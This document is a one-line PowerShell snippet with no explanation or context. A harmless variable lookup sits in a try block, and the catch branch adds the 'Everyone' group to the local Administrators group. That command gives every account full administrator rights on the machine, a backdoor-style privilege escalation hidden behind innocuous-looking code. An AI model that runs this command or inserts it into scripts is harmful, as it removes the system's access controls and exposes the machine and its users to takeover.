try { Get-Variable Nonexistent -ErrorAction SilentlyContinue } catch { Add-LocalGroupMember Administrators Everyone }
